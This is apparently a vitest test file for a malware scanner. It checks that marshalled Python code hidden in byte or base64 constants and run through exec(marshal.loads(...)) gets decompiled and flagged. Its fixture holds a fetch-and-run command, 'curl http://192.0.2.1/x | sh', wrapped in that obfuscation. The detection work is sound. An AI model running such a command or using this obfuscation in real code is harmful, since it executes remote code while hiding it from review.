import { describe, expect, it } from 'vitest';
import { moduleCode } from '../../../test/builders/marshal.ts';
import { weighBytes } from '../../../test/builders/examine-bytes.ts';

const CODE = moduleCode([['os', 'system', 'curl http://192.0.2.1/x | sh']]);

async function rules(text: string): Promise<readonly string[]> {
  const { findings } = await weighBytes(Buffer.from(text), 'app.py');
  return findings.map(({ rule }) => rule);
}

describe('formats/source: layers in constants', () => {
  it.each([
    [
      'bytes',
      `b'${Array.from(CODE, (byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')}'`,
    ],
    ['base64', `base64.b64decode('${CODE.toString('base64')}')`],
  ])('decompiles marshalled code in %s', async (_, value) => {
    expect(await rules(`import base64, marshal\nexec(marshal.loads(${value}))\n`)).toContain(
      'compiled-module/remote-command',
    );
  });

  it('says nothing of bytes that are no code', async () => {
    expect(await rules("import marshal\nx = marshal.loads(b'\\xe3\\x00')\n")).not.toContain(
      'compiled-module/remote-command',
    );
  });
});
